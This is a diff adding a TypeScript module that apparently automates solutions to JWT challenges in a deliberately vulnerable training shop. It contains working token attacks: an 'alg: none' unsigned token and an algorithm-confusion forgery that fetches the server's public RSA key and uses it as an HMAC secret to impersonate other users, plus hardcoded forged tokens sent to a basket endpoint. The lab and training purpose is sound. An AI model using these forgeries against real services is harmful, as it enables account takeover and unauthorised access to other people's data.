@@ -1,0 +1,65 @@
+import type { Attack, Tools } from '#lab'
+
+function base64url(bytes: Uint8Array): string {
+  const base64 = btoa(String.fromCharCode(...bytes))
+  return base64.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
+}
+
+/** The first two parts of a token: they only need writing. */
+function unsigned(alg: string, email: string): string {
+  const encode = (value: object): string => base64url(new TextEncoder().encode(JSON.stringify(value)))
+  return `${encode({ typ: 'JWT', alg })}.${encode({ data: { email }, iat: 1508639612, exp: 9999999999 })}`
+}
+
+/** Signs with the public key, as if it were a secret that two people share. */
+async function signedWith(secret: Uint8Array<ArrayBuffer>, text: string): Promise<string> {
+  const algorithm = { name: 'HMAC', hash: 'SHA-256' }
+  const key = await crypto.subtle.importKey('raw', secret, algorithm, false, ['sign'])
+  const signature = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(text))
+  return `${text}.${base64url(new Uint8Array(signature))}`
+}
+
+/** Shows a token to the shop and makes sure that it is not called invalid. */
+async function present({ http, expect }: Tools, path: string, token: string): Promise<void> {
+  const answer = await http.get(path, { token, headers: { accept: 'application/json' } })
+  expect(!answer.text.includes('invalid token'), 'the shop calls the token invalid')
+}
+
+/** Fetches the public key from where it lies around. */
+async function publicKey({ http, expect }: Tools): Promise<Uint8Array<ArrayBuffer>> {
+  const answer = await http.get('/encryptionkeys/jwt.pub')
+  expect(answer.status === 200, `the key answered with ${answer.status}`)
+  return answer.bytes
+}
+
+const UNSIGNED =
+  'eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJkYXRhIjp7ImVtYWlsIjoiand0bjNkQGp1aWNlLXNoLm9wIn0sImlhdCI6MTUwODYzOTYxMiwiZXhwIjo5OTk5OTk5OTk5fQ.'
+const FORGED =
+  'eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJkYXRhIjp7ImVtYWlsIjoicnNhX2xvcmRAanVpY2Utc2gub3AifSwiaWF0IjoxNTgzMDM3NzExfQ.gShXDT5TrE5736mpIbfVDEcQbLfteJaQUG7Z0PH8Xc8'
+
+export const attacks: Attack[] = [
+  {
+    challenge: 'jwtUnsignedChallenge',
+    name: 'the unsigned token that everybody knows',
+    run: (tools) => present(tools, '/rest/basket/1', UNSIGNED),
+  },
+  {
+    challenge: 'jwtUnsignedChallenge',
+    name: 'a token of her own, without a signature',
+    run: (tools) =>
+      present(tools, '/rest/basket/1', `${unsigned('none', `jwtn3d@${tools.settings.domain}`)}.`),
+  },
+  {
+    challenge: 'jwtForgedChallenge',
+    name: 'the forged token that everybody knows',
+    run: (tools) => present(tools, '/rest/basket/1', FORGED),
+  },
+  {
+    challenge: 'jwtForgedChallenge',
+    name: 'a token of her own, signed with the public key',
+    run: async (tools) => {
+      const text = unsigned('HS256', `rsa_lord@${tools.settings.domain}`)
+      await present(tools, '/rest/basket/1', await signedWith(await publicKey(tools), text))
+    },
+  },
+]
